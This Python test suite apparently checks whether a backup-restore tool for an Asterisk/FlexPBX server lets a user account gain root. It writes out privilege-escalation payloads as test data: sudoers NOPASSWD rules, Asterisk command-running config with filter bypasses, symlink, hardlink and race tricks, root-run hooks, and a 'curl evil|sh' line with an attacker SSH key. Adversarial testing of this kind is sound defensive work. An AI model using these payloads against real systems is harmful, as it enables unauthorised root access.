"""Class 1: a backup file (or the account, around a root restore) gains privilege."""
from __future__ import annotations

import os
import subprocess
import time
from pathlib import Path

from lib import OTHER, USER, Env, short, verdict

ATTACKS = {}


def attack(fn):
    ATTACKS[fn.__name__] = fn
    return fn


SUDO = "etc/sudoers.d/flexpbx-asterisk"
TOGGLE = "usr/local/bin/flexpbx-toggle-permissions"
EXT = "etc/asterisk/extensions.conf"


def _landed(e: Env, rel: str, needle: bytes) -> bool:
    p = e.root / rel if not rel.startswith("~/") else e.home / rel[2:]
    try:
        return needle in p.read_bytes()
    except OSError:
        return False


def _sudoers(name: str, text: str, path: str = SUDO, mode: str = "merge", *opts: str) -> bool:
    e = Env(name)
    e.put(path, text, root="system", mode="0440", owner="root", group="root")
    r = e.restore(*opts, mode=mode)
    needle = text.strip().splitlines()[-1].encode()
    return verdict(name, _landed(e, path, needle), f"{path} got the backup's rule: "
                   f"{_landed(e, path, needle)}; {short(r)}")


RULES = "Defaults:rr3a !requiretty\n"


@attack
def s01_sudo_all():
    return _sudoers("s01_sudo_all", RULES + "rr3a ALL=(root) NOPASSWD: ALL\n")


@attack
def s02_sudo_new_file():
    return _sudoers("s02_sudo_new_file", "rr3a ALL=(ALL) NOPASSWD: /bin/sh\n",
                    "etc/sudoers.d/flexpbx-zz")


@attack
def s03_sudo_other_user():
    return _sudoers("s03_sudo_other_user", RULES + "rr3b ALL=(root) NOPASSWD: "
                    "/usr/local/bin/flexpbx-toggle-permissions\n")


@attack
def s04_sudo_setenv_args():
    return _sudoers("s04_sudo_setenv_args", RULES + "rr3a ALL=(root) NOPASSWD: "
                    "/usr/local/bin/flexpbx-backup-helper *, /usr/bin/env *\n")


@attack
def s05_sudo_continuation_comment():
    return _sudoers("s05_sudo_continuation_comment", RULES + "# harmless \\\n"
                    "rr3a ALL=(root) NOPASSWD: /usr/local/bin/flexpbx-x\n"
                    "rr3a ALL=(ALL) NOPASSWD: ALL\n")


@attack
def s06_sudo_includedir():
    return _sudoers("s06_sudo_includedir", RULES + "@includedir /run\n#includedir /run\n")


@attack
def s07_sudo_uid_comment():
    return _sudoers("s07_sudo_uid_comment", RULES + "#1000 ALL=(ALL) NOPASSWD: ALL\n")


@attack
def s08_sudo_script_glob_traversal():
    return _sudoers("s08_sudo_script_glob_traversal", RULES +
                    "rr3a ALL=(root) NOPASSWD: /usr/local/bin/flexpbx-*/../../../bin/sh\n")


@attack
def s09_sudo_asterisk_args():
    # Lands, but grants nothing new: sudo's `*` matches spaces, so flexgit's own
    # `/usr/sbin/asterisk -rx *` already allows `-rx x -C /run/x`. Judged SAFE;
    # the width of that own rule is noted in REPORT.md.
    e = Env("s09_sudo_asterisk_args")
    e.put(SUDO, RULES + "rr3a ALL=(root) NOPASSWD: /usr/sbin/asterisk -rx * -C /run/x\n",
          root="system", mode="0440", owner="root", group="root")
    r = e.restore()
    landed = _landed(e, SUDO, b"-C /run/x")
    return verdict("s09_sudo_asterisk_args", False, f"landed={landed}, but within flexgit's "
                   f"own `asterisk -rx *`; {short(r)}")


@attack
def s10_sudo_case_name():
    return _sudoers("s10_sudo_case_name", "rr3a ALL=(ALL) NOPASSWD: ALL\n",
                    "etc/sudoers.d/FLEXPBX-zz")


@attack
def s11_sudo_fresh_mode():
    return _sudoers("s11_sudo_fresh_mode", RULES + "rr3a ALL=(root) NOPASSWD: ALL\n",
                    SUDO, "fresh")


@attack
def s12_sudo_tab_user_list():
    return _sudoers("s12_sudo_tab_user_list", RULES +
                    "rr3a,rr3b\tALL=(root) NOPASSWD: /usr/local/bin/flexpbx-backup-helper\n")


@attack
def s13_sudo_runas_alias_line_from_live():
    # the live file's own alias line, then a rule using the alias for ALL
    live = (Path(Env("s13_tmp").root / SUDO)).read_text()
    return _sudoers("s13_sudo_runas_alias_line_from_live",
                    live + "rr3a ALL=(root) NOPASSWD: FLEXPBX_CMDS, ALL\n")


def _script(name: str, rel: str, mode: str = "merge", *, file_mode: str = "0755",
            owner: str | None = None) -> bool:
    e = Env(name)
    body = "#!/bin/sh\nid > /run/rr3-pwned\n"
    e.put(rel, body, root="system", mode=file_mode, owner=owner)
    r = e.restore(mode=mode)
    p = e.root / rel
    ok = p.exists() and b"rr3-pwned" in p.read_bytes()
    return verdict(name, ok, f"{rel} written with backup code: {ok}; {short(r)}")


@attack
def p01_replace_helper():
    return _script("p01_replace_helper", TOGGLE)


@attack
def p02_new_helper():
    return _script("p02_new_helper", "usr/local/bin/flexpbx-new")


@attack
def p03_replace_helper_fresh():
    return _script("p03_replace_helper_fresh", TOGGLE, "fresh")


@attack
def p04_helper_case():
    return _script("p04_helper_case", "usr/local/bin/FlexPBX-toggle-permissions")


@attack
def p05_sudoers_named_cmd():
    # a command the installed sudoers lets the account run: /usr/sbin/asterisk
    return _script("p05_sudoers_named_cmd", "usr/sbin/asterisk")


@attack
def p06_cron():
    return _script("p06_cron", "etc/cron.d/flexpbx", file_mode="0644")


@attack
def p07_systemd():
    return _script("p07_systemd", "etc/systemd/system/flexpbx.service", file_mode="0644")


@attack
def p08_callfile():
    e = Env("p08_callfile")
    rel = "var/spool/asterisk/outgoing/x.call"
    e.put(rel, "Channel: Local/s@x\nApplication: System\nData: id>/run/rr3\n", root="system")
    r = e.restore()
    ok = (e.root / rel).exists()
    return verdict("p08_callfile", ok, f"call file written: {ok}; {short(r)}")


@attack
def p09_setuid_home():
    e = Env("p09_setuid_home")
    e.put("public_html/x.sh", "#!/bin/sh\n", mode="4755", owner="root")
    r = e.restore()
    p = e.home / "public_html/x.sh"
    st = p.lstat() if p.exists() else None
    bad = st is not None and (st.st_mode & 0o6000 or st.st_uid == 0)
    return verdict("p09_setuid_home", bool(bad), f"{p.name}: "
                   f"{oct(st.st_mode) if st else None} uid={st.st_uid if st else None}; {short(r)}")


@attack
def p10_owner_other_account():
    e = Env("p10_owner_other_account")
    e.put("public_html/y.php", "<?php\n", owner=OTHER, group=OTHER)
    e.put("etc/asterisk/zz.conf", "[x]\n", root="system", owner=USER, group=USER, mode="0666")
    r = e.restore()
    import pwd
    bad = []
    for p in (e.home / "public_html/y.php", e.root / "etc/asterisk/zz.conf"):
        if p.exists():
            st = p.lstat()
            if st.st_uid == pwd.getpwnam(OTHER).pw_uid or (p.parts[-2] == "asterisk" and (
                    st.st_uid == pwd.getpwnam(USER).pw_uid or st.st_mode & 0o002)):
                bad.append(f"{p.name} uid={st.st_uid} mode={oct(st.st_mode)}")
    return verdict("p10_owner_other_account", bool(bad), f"{bad}; {short(r)}")


@attack
def p11_system_setgid_script():
    e = Env("p11_system_setgid_script")
    e.put("etc/asterisk/run.sh", "#!/bin/sh\n", root="system", mode="6777")
    r = e.restore()
    p = e.root / "etc/asterisk/run.sh"
    st = p.lstat() if p.exists() else None
    bad = st is not None and bool(st.st_mode & 0o6002)
    return verdict("p11_system_setgid_script", bad,
                   f"mode={oct(st.st_mode) if st else None}; {short(r)}")


# --- Asterisk configuration that runs commands --------------------------------

def _ast(name: str, rel: str, add: str, needle: str, mode: str = "merge") -> bool:
    e = Env(name)
    live = (e.root / rel).read_bytes() if (e.root / rel).exists() else b""
    e.put(rel, live + add.encode(), root="system", mode="0640", owner="root", group="root")
    r = e.restore(mode=mode)
    ok = _landed(e, rel, needle.encode())
    return verdict(name, ok, f"{rel} now holds {needle!r}: {ok}; {short(r)}")


@attack
def a01_system_plain():
    return _ast("a01_system_plain", EXT, "[evil]\nexten => 1,1,System(id)\n", "System(id)")


@attack
def a02_exec_directive():
    return _ast("a02_exec_directive", "etc/asterisk/sip.conf", "#exec /bin/id\n", "#exec")


@attack
def a03_block_comment_split():
    # Asterisk's config reader joins text around an inline ;-- --; block comment:
    # "Sys;--x--;tem(...)" is read as "System(...)".
    return _ast("a03_block_comment_split", EXT,
                "[evil]\nexten => 1,1,Sys;--x--;tem(touch /run/rr3-pwned)\n", "Sys;--x--;tem")


@attack
def a04_include_quoted_space():
    return _ast("a04_include_quoted_space", EXT,
                '#include "/home/rr3a/public_html/up loads/x.conf"\n', "up loads")


@attack
def a05_include_trailing_comment():
    return _ast("a05_include_trailing_comment", EXT,
                "#include /home/rr3a/public_html/x.conf ; dialplan extras\n",
                "/home/rr3a/public_html/x.conf")


@attack
def a06_originate_dynamic_app():
    return _ast("a06_originate_dynamic_app", EXT,
                "[evil]\nexten => 1,1,Set(A=Sys)\n same => n,Originate(Local/2@evil,app,${A}tem,"
                "touch /run/rr3-pwned)\n", "${A}tem")


@attack
def a07_mixmonitor_var_args():
    return _ast("a07_mixmonitor_var_args", EXT,
                "[evil]\nexten => 1,1,Set(M=x.wav,,touch /run/rr3-pwned)\n"
                " same => n,MixMonitor(${M})\n", "MixMonitor(${M})")


@attack
def a08_features_applicationmap():
    return _ast("a08_features_applicationmap", "etc/asterisk/features.conf",
                "[applicationmap]\npwn => *9,self,System,id\n", "pwn =>")


@attack
def a09_moh_custom_app():
    return _ast("a09_moh_custom_app", "etc/asterisk/musiconhold.conf",
                "[pwn]\nmode=custom\napplication=/bin/sh -c id\n", "application=")


@attack
def a10_voicemail_mailcmd():
    return _ast("a10_voicemail_mailcmd", "etc/asterisk/voicemail.conf",
                "[general]\nmailcmd=/bin/sh -c id\n", "mailcmd=/bin/sh")


@attack
def a11_new_conf_file_exec():
    return _ast("a11_new_conf_file_exec", "etc/asterisk/extensions_custom.conf",
                "#tryexec /bin/id\n", "#tryexec")


@attack
def a12_asterisk_conf_runuser():
    return _ast("a12_asterisk_conf_runuser", "etc/asterisk/asterisk.conf",
                "[options]\nrunuser=root\nexecincludes=yes\n", "execincludes")


@attack
def a13_manager_user():
    return _ast("a13_manager_user", "etc/asterisk/manager.conf",
                "[pwn]\nsecret=x\nread=all\nwrite=all\n", "[pwn]")


@attack
def a14_file_function_write():
    # FILE() writes any file Asterisk can write
    return _ast("a14_file_function_write", EXT,
                "[evil]\nexten => 1,1,Set(FILE(/etc/asterisk/x.conf,,,a)=#exec /bin/id)\n",
                "FILE(/etc/asterisk/x.conf")


@attack
def a15_system_old_syntax_uppercase():
    return _ast("a15_system_old_syntax_uppercase", EXT,
                "[evil]\nexten => 1,1,SYSTEM,id\n", "SYSTEM,id")


@attack
def a16_ael_system():
    return _ast("a16_ael_system", "etc/asterisk/extensions.ael",
                "context evil { 1 => { System(id); }; };\n", "System(id)")


@attack
def a17_include_via_cr():
    return _ast("a17_include_via_cr", EXT, "; x\r#include /home/rr3a/x.conf\r", "#include /home")


@attack
def a18_exec_block_comment():
    # ";--x--;" in front of the directive
    return _ast("a18_exec_block_comment", "etc/asterisk/sip.conf",
                ";--x--;#exec /bin/id\n", "#exec /bin/id")


@attack
def a19_queue_agi_via_var():
    return _ast("a19_queue_agi_via_var", EXT,
                "[evil]\nexten => 1,1,Set(G=/home/rr3a/x)\n same => n,Gosub(${G})\n"
                " same => n,Set(A=A)\n same => n,Exec(${A}GI(/home/rr3a/x))\n", "Exec(${A}GI")


@attack
def a20_lua_file():
    return _ast("a20_lua_file", "etc/asterisk/extensions.lua",
                "os.execute('id')\n", "os.execute")


# --- links and the disk ------------------------------------------------------

def _link(name: str, rel: str, target: str, root: str = "home") -> bool:
    e = Env(name)
    e.put(rel, target, root=root, mode="0777", type="symlink")
    r = e.restore()
    p = (e.home if root == "home" else e.root) / rel
    ok = p.is_symlink() and os.readlink(p) == target
    return verdict(name, ok, f"{rel} -> {target} created: {ok}; {short(r)}")


@attack
def l01_link_abs_shadow():
    return _link("l01_link_abs_shadow", "public_html/s", "/etc/shadow")


@attack
def l02_link_dotdot():
    return _link("l02_link_dotdot", "public_html/s", "../../../../../../etc")


@attack
def l03_link_backup_dir():
    return _link("l03_link_backup_dir", "public_html/b", "../backup")


@attack
def l04_link_system_to_home():
    return _link("l04_link_system_to_home", "etc/asterisk/x.conf", "/home/rr3a/x.conf", "system")


@attack
def l05_link_chain():
    e = Env("l05_link_chain")
    e.put("public_html/a", "b/..", type="symlink", mode="0777")
    e.put("public_html/b", "../..", type="symlink", mode="0777")
    e.put("public_html/c", "a/../../etc", type="symlink", mode="0777")
    r = e.restore()
    made = [n for n in "abc" if (e.home / "public_html" / n).is_symlink()]
    bad = "c" in made and not (e.home / "public_html/c").resolve().is_relative_to(e.home)
    return verdict("l05_link_chain", bad, f"links made: {made}; {short(r)}")


@attack
def l06_link_to_sudoers_from_system():
    return _link("l06_link_to_sudoers_from_system", "etc/asterisk/s.conf",
                 "../sudoers.d/flexpbx-asterisk", "system")


@attack
def l07_link_webroot_publishes():
    return _link("l07_link_webroot_publishes", "public_html/u", "../users")


def _parent_link(name: str, mode: str = "merge") -> bool:
    """The account (not the backup) replaces a directory of its home by a
    link to a root directory before root restores: the write must not follow it."""
    e = Env(name)
    api = e.home / "public_html/api"
    subprocess.run(["rm", "-rf", str(api)], check=True)
    os.symlink(str(e.root / "etc/sudoers.d"), api)
    os.lchown(api, *_ids(USER))
    before = {p.name: p.read_bytes() for p in (e.root / "etc/sudoers.d").iterdir()}
    e.put("public_html/api/config.php", "rr3a ALL=(ALL) NOPASSWD: ALL\n")
    r = e.restore(mode=mode)
    after = {p.name: p.read_bytes() for p in (e.root / "etc/sudoers.d").iterdir()}
    return verdict(name, before != after, f"sudoers.d changed through the home's link: "
                   f"{sorted(set(after) - set(before)) or before != after}; {short(r)}")


def _ids(user: str) -> tuple[int, int]:
    import pwd
    pw = pwd.getpwnam(user)
    return pw.pw_uid, pw.pw_gid


@attack
def l08_parent_link_merge():
    return _parent_link("l08_parent_link_merge")


@attack
def l09_parent_link_fresh():
    return _parent_link("l09_parent_link_fresh", "fresh")


@attack
def l10_file_is_link_on_disk():
    """The account makes a file the backup restores a link to root's file."""
    e = Env("l10_file_is_link_on_disk")
    f = e.home / "public_html/portal/css/portal.css"
    f.unlink()
    os.symlink(str(e.root / SUDO), f)
    os.lchown(f, *_ids(USER))
    before = (e.root / SUDO).read_bytes(), (e.root / SUDO).stat()
    e.put("public_html/portal/css/portal.css", "rr3a ALL=(ALL) NOPASSWD: ALL\n", mode="0666")
    r = e.restore(mode="fresh")
    st = (e.root / SUDO).stat()
    bad = (e.root / SUDO).read_bytes() != before[0] or st.st_uid != before[1].st_uid or \
        st.st_mode != before[1].st_mode
    return verdict("l10_file_is_link_on_disk", bad, f"sudoers changed via link: {bad}; {short(r)}")


@attack
def l11_hardlink_on_disk():
    """The account hard-links root's sudoers into its home (same fs), the
    restore rewrites or chowns that home path."""
    e = Env("l11_hardlink_on_disk")
    f = e.home / "public_html/portal/css/portal.css"
    f.unlink()
    os.link(e.root / SUDO, f)
    before = (e.root / SUDO).read_bytes(), (e.root / SUDO).stat()
    r = e.restore(mode="fresh")
    st = (e.root / SUDO).stat()
    bad = (e.root / SUDO).read_bytes() != before[0] or st.st_uid != before[1].st_uid or \
        st.st_mode != before[1].st_mode
    return verdict("l11_hardlink_on_disk", bad,
                   f"sudoers uid {before[1].st_uid}->{st.st_uid} mode {oct(before[1].st_mode)}->"
                   f"{oct(st.st_mode)} content changed {(e.root / SUDO).read_bytes() != before[0]};"
                   f" {short(r)}")


@attack
def l12_race_swap_dir():
    """The account swaps public_html/api for a link to sudoers.d, over and over,
    while root restores (between plan and apply)."""
    e = Env("l12_race_swap_dir")
    e.put("public_html/api/zz-new.php", "rr3a ALL=(ALL) NOPASSWD: ALL\n")
    api = e.home / "public_html/api"
    script = (f"import os,time\nd={str(api)!r}\nt={str(e.root / 'etc/sudoers.d')!r}\n"
              "end=time.time()+25\n"
              "while time.time()<end:\n"
              "  try:\n    os.rename(d, d+'.real'); os.symlink(t, d)\n"
              "    time.sleep(0.002); os.unlink(d); os.rename(d+'.real', d)\n"
              "  except OSError: pass\n")
    racer = subprocess.Popen(["python3", "-c", script])
    hits = []
    try:
        for _ in range(4):
            r = e.restore()
            if (e.root / "etc/sudoers.d/zz-new.php").exists():
                hits.append("zz-new.php in sudoers.d")
                break
            time.sleep(0.5)
    finally:
        racer.kill()
        racer.wait()
    return verdict("l12_race_swap_dir", bool(hits), f"{hits}; last {short(r)}")


@attack
def h01_hook_in_account_store():
    """Root restores the account's installation; the store (and its hooks
    directory) is in the account's home: the account's hook runs as root."""
    e = Env("h01_hook_in_account_store")
    e.repo = e.home / "backup/flexgit.git"
    r0 = e.flexgit("-q", "snapshot", "-m", "x")
    d = e.repo / "hooks/pre-restore.d"
    d.mkdir(parents=True, exist_ok=True)
    marker = e.dir / "hook-ran-as"
    (d / "10-pwn").write_text(f"#!/bin/sh\nid -u > {marker}\n")
    (d / "10-pwn").chmod(0o755)
    subprocess.run(["chown", "-R", f"{USER}:{USER}", str(e.home / "backup")], check=True)
    r = e.restore()
    ran = marker.read_text().strip() if marker.exists() else None
    return verdict("h01_hook_in_account_store", ran == "0",
                   f"account-written hook ran as uid {ran}; snapshot {short(r0)}; {short(r)}")


@attack
def h02_backup_writes_hook():
    e = Env("h02_backup_writes_hook")
    e.repo = e.home / "backup/flexgit.git"
    e.put("backup/flexgit.git/hooks/post-restore.d/10-pwn", "#!/bin/sh\nid\n", mode="0755")
    e.put(".config/flexgit/x", "x")
    r = e.restore()
    p = e.home / "backup/flexgit.git/hooks/post-restore.d/10-pwn"
    return verdict("h02_backup_writes_hook", p.exists(), f"hook written: {p.exists()}; {short(r)}")


@attack
def h03_dotfiles():
    """Home dotfiles that run code for whoever uses the account (not root)."""
    e = Env("h03_dotfiles")
    e.put(".bashrc", "curl evil|sh\n")
    e.put(".ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n", mode="0600")
    r = e.restore()
    got = [p for p in (".bashrc", ".ssh/authorized_keys") if (e.home / p).exists()]
    return verdict("h03_dotfiles", ".ssh/authorized_keys" in got,
                   f"written: {got}; {short(r)}")


# --- round two: Asterisk's reader skips every byte below 33 ---------------------
# config.c strips a line with ast_strip() (all bytes < 33) before it looks for
# '#' and before it splits `name = value`; flexgit's anchored patterns accept
# only Python's \s there.

@attack
def a21_ctrl_before_exec():
    return _ast("a21_ctrl_before_exec", "etc/asterisk/sip.conf", "\x01#exec /bin/id\n", "#exec")


@attack
def a22_ctrl_before_key():
    return _ast("a22_ctrl_before_key", "etc/asterisk/voicemail.conf",
                "[general]\n\x01mailcmd=/bin/sh -c id\n", "mailcmd=/bin/sh")


@attack
def a23_ctrl_before_equals():
    return _ast("a23_ctrl_before_equals", "etc/asterisk/musiconhold.conf",
                "[pwn]\nmode=custom\napplication\x01=/bin/sh -c id\n", "=/bin/sh -c id")


@attack
def a24_ctrl_after_include():
    return _ast("a24_ctrl_after_include", EXT, "#include\x01/home/rr3a/x.conf\n",
                "/home/rr3a/x.conf")


@attack
def a25_realtime_switch():
    # dialplan fetched at run time from a database or URL the backup names
    e = Env("a25_realtime_switch")
    live = (e.root / EXT).read_bytes()
    e.put(EXT, live + b"[evil]\nswitch => Realtime/evil@extensions\n", root="system",
          mode="0640", owner="root", group="root")
    e.put("etc/asterisk/extconfig.conf", "[settings]\nextensions => curl,http://203.0.113.9/x\n",
          root="system", mode="0640", owner="root", group="root")
    r = e.restore()
    ok = _landed(e, EXT, b"switch => Realtime") and _landed(e, "etc/asterisk/extconfig.conf",
                                                          b"curl,http")
    return verdict("a25_realtime_switch", ok, f"realtime dialplan from a URL installed: {ok}; "
                   f"{short(r)}")


@attack
def a26_include_trailing_block_comment():
    return _ast("a26_include_trailing_block_comment", EXT,
                "#include /home/rr3a/x.conf;--extras--;\n", "/home/rr3a/x.conf")


@attack
def a27_ari_user():
    return _ast("a27_ari_user", "etc/asterisk/ari.conf",
                "[general]\nenabled=yes\n[pwn]\ntype=user\nread_only=no\npassword=x\n", "[pwn]")


@attack
def a28_manager_custom_include():
    # manager.conf includes manager_custom.conf (FreePBX layout): a new file
    return _ast("a28_manager_custom_include", "etc/asterisk/manager_custom.conf",
                "[pwn]\nsecret=x\nwrite=all\n", "[pwn]")


@attack
def l13_manifest_home_lies():
    """The manifest claims the home is /etc: absolute link targets under /etc
    would then read as inside the home."""
    e = Env("l13_manifest_home_lies")
    e.data["flexgit"]["manifest"]["home"] = "/etc"
    e.put("notes/s", "/etc/sudoers.d", type="symlink", mode="0777")
    e.put("templates/s", "/etc/sudoers.d", type="symlink", mode="0777")
    r = e.restore()
    made = [p for p in ("notes/s", "templates/s") if (e.home / p).is_symlink()]
    return verdict("l13_manifest_home_lies", bool(made), f"links made: {made}; {short(r)}")


@attack
def l14_migrate_home_lies():
    e = Env("l14_migrate_home_lies")
    e.data["flexgit"]["manifest"]["home"] = "/etc"
    e.data["flexgit"]["manifest"]["account"] = OTHER
    e.put("templates/s", "/etc/sudoers.d", type="symlink", mode="0777")
    r = e.restore("-u", USER, mode="migrate")
    made = (e.home / "templates/s").is_symlink()
    tgt = os.readlink(e.home / "templates/s") if made else None
    return verdict("l14_migrate_home_lies", made and not str(tgt).startswith(str(e.home)),
                   f"link made: {made} -> {tgt}; {short(r)}")


@attack
def l15_hardlink_chown():
    """The account hard-links a root-run helper into its home (possible where
    fs.protected_hardlinks=0); the backup holds the same bytes at that home
    path with the account's owner and mode 0777: a chown/chmod-only action
    would hand the helper to the account."""
    e = Env("l15_hardlink_chown")
    helper = e.root / TOGGLE
    f = e.home / "public_html/portal/x.sh"
    os.link(helper, f)
    e.put("public_html/portal/x.sh", helper.read_bytes(), mode="0777", owner=USER, group=USER)
    r = e.restore()
    st = helper.stat()
    bad = st.st_uid != 0 or bool(st.st_mode & 0o022)
    return verdict("l15_hardlink_chown", bad, f"helper uid={st.st_uid} mode={oct(st.st_mode)}; "
                   f"{short(r)}")


@attack
def l16_hardlink_chown_fresh():
    e = Env("l16_hardlink_chown_fresh")
    helper = e.root / TOGGLE
    f = e.home / "public_html/portal/x.sh"
    os.link(helper, f)
    e.put("public_html/portal/x.sh", helper.read_bytes(), mode="0777", owner=USER, group=USER)
    r = e.restore(mode="fresh")
    st = helper.stat()
    bad = st.st_uid != 0 or bool(st.st_mode & 0o022)
    return verdict("l16_hardlink_chown_fresh", bad, f"helper uid={st.st_uid} "
                   f"mode={oct(st.st_mode)}; {short(r)}")
